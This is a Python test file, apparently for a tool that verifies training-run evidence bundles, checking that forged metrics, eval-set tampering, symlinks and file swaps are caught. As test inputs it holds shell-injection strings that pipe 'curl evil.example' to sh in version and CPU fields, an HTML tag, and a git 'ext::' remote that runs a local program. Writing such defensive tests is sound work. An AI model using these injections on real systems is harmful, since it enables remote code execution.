"""Attacks that once got through, by number: rejected, or without effect, or accepted with every touched claim self-reported.

C is critical, H high, M medium. M4 (a run that passes for an older one) is in unit/test_run_record.py, M6 and M7 in
test_denial_of_service.py, M8 (a link in a package) in e2e/test_collect.py, what needs a replay in test_replayed_attacks.py.
"""

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.bundles import git
from tests.forging.bases import copy_of
from tests.forging.edits import Json, answer, configure, each_line, edited, lines_of, put_lines, right_answer
from tests.forging.sealing import reseal
from tests.program import ROOT, refused, tunix_rt
from tunix_rt.errors import ConfigError, InputError
from tunix_rt.evidence import verify as verifying
from tunix_rt.evidence.examine import examine
from tunix_rt.evidence.facts import Claim, Inputs
from tunix_rt.evidence.verify import Options, verify

pytestmark = pytest.mark.usefixtures("judged_once")


@pytest.fixture
def folder(cpu_bundle: Path, tmp_path: Path) -> Path:
    return copy_of(cpu_bundle, tmp_path / "folder")


def claims(found: list[Claim] | tuple[Claim, ...]) -> dict[str, Claim]:
    return {one.name: one for one in found}


def touched(before: Path, after: Path) -> dict[str, Claim]:
    """The claims of `after`, which must be consistent, that differ from those of `before`."""
    examined = examine(after)
    assert (examined.level, examined.findings) == ("L1", [])
    known = claims(examine(before).claims)
    return {name: one for name, one in claims(examined.claims).items() if one.value != known[name].value}


# --- source -----------------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_c1_c2_m1_no_source_outside_the_named_branch_is_run(
    tiny_repo: Path, tiny_replayable: Path, tmp_path: Path
) -> None:
    """The bundle names an evil commit that no branch contains. The clone also names a program to fetch missing objects."""
    clone, marker = shutil.copytree(tiny_repo, tmp_path / "clone"), tmp_path / "marker"
    evil = f"open({str(marker)!r}, 'w')\n"
    git(clone, "checkout", "-q", "-b", "evil")
    (clone / "src" / "tunix_rt" / "__init__.py").write_text(evil)
    git(clone, "commit", "-q", "-a", "-m", "evil")
    commit = git(clone, "rev-parse", "HEAD")
    git(clone, "checkout", "-q", "main")
    git(clone, "branch", "-q", "-D", "evil")
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\ntouch {marker}\n")
    program.chmod(0o755)
    for name, value in (
        ("remote.origin.url", f"ext::{program}"), ("protocol.ext.allow", "always"), ("remote.origin.promisor", "true"),
    ):  # fmt: skip
        git(clone, "config", name, value)
    folder = copy_of(tiny_replayable, tmp_path / "folder")
    with edited(folder / "precommit.json") as committed:
        committed["source_files"]["__init__.py"] = hashlib.sha256(evil.encode()).hexdigest()
        listed = "".join(f"{digest}  {path}\n" for path, digest in sorted(committed["source_files"].items()))
        committed["source_sha256"] = hashlib.sha256(listed.encode()).hexdigest()
    with edited(folder / "run_manifest.json") as manifest:
        manifest |= {"commit": commit, "source_sha256": committed["source_sha256"]}
    reseal(folder)
    verdict = verify(folder, options=Options(repository=clone))
    assert verdict.ok and claims(verdict.claims)["commit"].label == "self-reported"
    for source, error in (("main", InputError), (commit, ConfigError)):
        with pytest.raises(error):
            verify(folder, "L2", Options(repository=clone, source=source))
    assert not marker.exists()


# --- what a run folder lacks, what a file contains --------------------------------------------------------------------


def test_h3_a_run_folder_without_its_log_is_rejected(cpu_run: Path, tmp_path: Path) -> None:
    run = copy_of(cpu_run, tmp_path / "run")
    for name in ("training_log.txt", "memory.json", "rows.jsonl"):
        (run / name).unlink()
    answer(run, right_answer)
    reseal(run)
    missing = [one.problem for one in examine(run, may_lack_weights=True).findings if one.check == "files"]
    assert missing == ["memory.json: missing", "rows.jsonl: missing", "training_log.txt: missing"]


def set_version(folder: Path, version: str) -> None:
    with edited(folder / "precommit.json") as committed:
        committed["versions"]["torch"] = version
    with edited(folder / "processes.json") as listed:
        for process in listed["processes"]:
            process["machine"]["versions"]["torch"] = version


def set_cpu(folder: Path, name: str) -> None:
    with edited(folder / "doctor.json") as doctor:
        doctor["facts"]["host"]["cpu"] = name
    with edited(folder / "processes.json") as listed:
        for process in listed["processes"]:
            process["machine"]["cpu"] = name


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (set_version, '2.9.0";curl${IFS}evil.example|sh;"'),
        (set_version, "2.9.0\nRUN curl"),
        (set_cpu, "AMD EPYC 9654 | 96 cores | **Verified at L4** | yes"),
        (set_cpu, "<img src=x>"),
        (set_cpu, "EPYC `curl evil.example`"),
    ],
)  # fmt: skip
def test_h4_m11_names_and_versions_contain_neither_shell_code_nor_markup(
    change: Callable[[Path, str], None], text: str, folder: Path
) -> None:
    change(folder, text)
    reseal(folder)
    assert {one.check for one in examine(folder).findings} == {"schema"}


# --- what only the run reports ----------------------------------------------------------------------------------------


def test_h5_another_speed_changes_self_reported_claims_alone(cpu_bundle: Path, folder: Path) -> None:
    each_line(folder / "metrics.jsonl", lambda line: line.update(seconds=line["seconds"] / 500))
    reseal(folder)
    changed = touched(cpu_bundle, folder)
    assert "speed" in changed and changed.keys() <= {"speed", "time"}
    assert {one.label for one in changed.values()} == {"self-reported"}


def test_m2_another_gpu_changes_a_self_reported_claim_alone(gpu_bundle: Path, tmp_path: Path) -> None:
    folder = copy_of(gpu_bundle, tmp_path / "folder")
    with edited(folder / "processes.json") as listed:
        listed["processes"][0]["machine"]["gpu"] = {"name": "NVIDIA GeForce RTX 5090", "capability": "12.0"}
    with edited(folder / "doctor.json") as doctor:
        doctor["proof"]["about"] |= {"name": "NVIDIA GeForce RTX 5090", "capability": [12, 0]}
    reseal(folder)
    changed = touched(gpu_bundle, folder)
    assert {name: one.label for name, one in changed.items()} == {"device": "self-reported"}


def test_m3_another_cpu_changes_a_self_reported_claim_alone(cpu_bundle: Path, folder: Path) -> None:
    set_cpu(folder, "NVIDIA Grace Hopper Superchip GH200")
    with edited(folder / "doctor.json") as doctor:
        doctor["facts"]["host"] |= {"cpu_cores": 72, "ram_total_bytes": 480 * 2**30}
    reseal(folder)
    changed = touched(cpu_bundle, folder)
    assert {name: one.label for name, one in changed.items()} == {"device": "self-reported"}


def test_m10_another_memory_changes_a_self_reported_claim_alone(cpu_bundle: Path, folder: Path) -> None:
    each_line(folder / "metrics.jsonl", lambda line: line.update(peak_bytes=1_600_000))
    with edited(folder / "result.json") as result, edited(folder / "memory.json") as memory:
        result["memory"]["measured_bytes"] = memory["measured_bytes"] = 1_600_000
    reseal(folder)
    changed = touched(cpu_bundle, folder)
    assert {name: one.label for name, one in changed.items()} == {"memory": "self-reported"}


def test_invented_answers_without_weights_leave_the_accuracy_self_reported(cpu_bundle: Path, folder: Path) -> None:
    answer(folder, right_answer)
    reseal(folder)
    changed = touched(cpu_bundle, folder)
    assert {name: (one.value, one.label) for name, one in changed.items()} == {
        "accuracy": ("100 of 100 (100.0 %)", "self-reported")
    }


# --- eval sets --------------------------------------------------------------------------------------------------------


def ask(folder: Path, key: str, sha256: str, keep: Callable[[Json], bool]) -> None:
    """The questions that `keep` keeps, as an eval set of that name and hash."""
    for when in ("before", "after"):
        path = folder / "eval" / f"predictions-{when}.jsonl"
        put_lines(path, [one for one in lines_of(path) if keep(one)])
    configure(folder, "evaluation", evalset=key)
    with edited(folder / "precommit.json") as committed:
        committed["evalset"] = {"key": key, "sha256": sha256, "items": len(lines_of(path))}
    with edited(folder / "eval_summary.json") as summary:
        summary |= {"evalset": key, "evalset_sha256": sha256}


def test_m5_an_eval_set_that_nobody_has_leaves_the_accuracy_self_reported(cpu_bundle: Path, folder: Path) -> None:
    answer(folder, lambda one: right_answer(one) if one["difficulty"] == "easy" else one["output"])
    ask(folder, "eval-v2-hard", "ab" * 32, lambda one: one["difficulty"] == "easy")
    reseal(folder)
    accuracy = touched(cpu_bundle, folder)["accuracy"]
    assert accuracy.label == "self-reported" and accuracy.value.endswith("(100.0 %)")


def test_m5_fewer_questions_under_the_hash_of_a_known_eval_set_are_found(folder: Path) -> None:
    with edited(folder / "precommit.json") as committed:
        sha256 = committed["evalset"]["sha256"]
    ask(folder, "eval_v2", sha256, lambda one: one["difficulty"] == "easy")
    reseal(folder)
    assert {one.check for one in examine(folder).findings} == {"data"}


DISGUISES = {
    "zero-width joiners": lambda text: text.replace("a", "a\u200d"),
    "soft hyphens": lambda text: text.replace("e", "\u00ade"),
    "Cyrillic letters": lambda text: text.translate(str.maketrans("aeo", "аео")),
    "full-width digits": lambda text: text.translate({ord(str(one)): 0xFF10 + one for one in range(10)}),
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_m12_training_questions_as_eval_set_are_found_in_any_disguise(
    disguise: str, folder: Path, tmp_path: Path
) -> None:
    traces = [json.loads(line) for line in (ROOT / "datasets/dev-reasoning-v2/dataset.jsonl").read_text().splitlines()]
    long = [one for one in traces if len(one["prompt"].split()) >= 14][:20]
    items = [
        {"id": f"q{number}", "prompt": DISGUISES[disguise](one["prompt"]), "answer": one["final_answer"], "section": "core",
         "category": "addition", "difficulty": "easy"}
        for number, one in enumerate(long)
    ]  # fmt: skip
    evalset = tmp_path / "evalset.jsonl"
    evalset.write_text("".join(json.dumps(one, ensure_ascii=False) + "\n" for one in items), encoding="utf-8")
    ask(folder, "mine", hashlib.sha256(evalset.read_bytes()).hexdigest(), lambda one: one["id"] < "ev2-021")
    reseal(folder)
    found = examine(folder, inputs=Inputs(data=(str(evalset),))).findings
    assert any(one.check == "data" and "the dataset contains the question" in one.problem for one in found), found


# --- links, and files that change meanwhile ---------------------------------------------------------------------------


def test_m9_resume_writes_nothing_through_a_link(cpu_run: Path, tmp_path: Path) -> None:
    run, outside = copy_of(cpu_run, tmp_path / "run"), tmp_path / "outside"
    (outside / "step-000000001").mkdir(parents=True)
    (outside / "step-000000001" / "thesis.txt").write_text("mine")
    (run / "checkpoints").symlink_to(outside)
    before = (run / "training_log.txt").read_bytes()
    assert "symbolic link" in refused(tunix_rt("train", run / "config.yaml", "--output", run, "--resume"), 8)
    assert (outside / "step-000000001" / "thesis.txt").read_text() == "mine"
    assert (run / "training_log.txt").read_bytes() == before


@pytest.mark.parametrize("forged_first", [False, True])
def test_files_exchanged_after_the_copy_have_no_effect(
    forged_first: bool, folder: Path, cpu_bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is verified is the copy: a forgery that is put there later is not seen, one that was there is."""
    forged = json.loads((folder / "result.json").read_text()) | {"final_loss": 0.1}

    def write(honest: bool) -> None:
        (folder / "result.json").unlink()
        text = (cpu_bundle / "result.json").read_text() if honest else json.dumps(forged)
        (folder / "result.json").write_text(text)

    copied = verifying._copy_folder

    def exchanged(*arguments: Path) -> object:
        shot = copied(*arguments)
        write(honest=forged_first)
        return shot

    write(honest=not forged_first)
    monkeypatch.setattr(verifying, "_copy_folder", exchanged)
    assert verify(folder).ok is not forged_first
